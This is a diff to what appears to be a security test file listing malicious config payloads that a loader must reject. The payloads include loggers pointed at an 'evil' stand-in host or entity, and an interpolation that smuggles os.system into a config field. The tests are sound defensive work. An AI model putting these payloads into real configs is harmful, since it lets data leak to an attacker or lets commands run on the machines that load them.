@@ -121,7 +121,11 @@ ATTACKS = {
     "a pipeline": ({"_target_": "diffusers.DiffusionPipeline.from_pretrained"}, "from_pretrained"),
     "a logger with credentials": (
         {"_target_": "lightning.pytorch.loggers.MLFlowLogger", "tracking_uri": "http://evil"},
-        "MLFlowLogger",
+        "http://evil",
+    ),
+    "a logger by the name of its module": (
+        {"_target_": "lightning.pytorch.loggers.wandb.WandbLogger", "entity": "evil"},
+        "evil",
     ),
     "a reference": (
         {"_target_": "torch.nn.Identity", "x": "${oc.create:{_target_: os.system}}"},
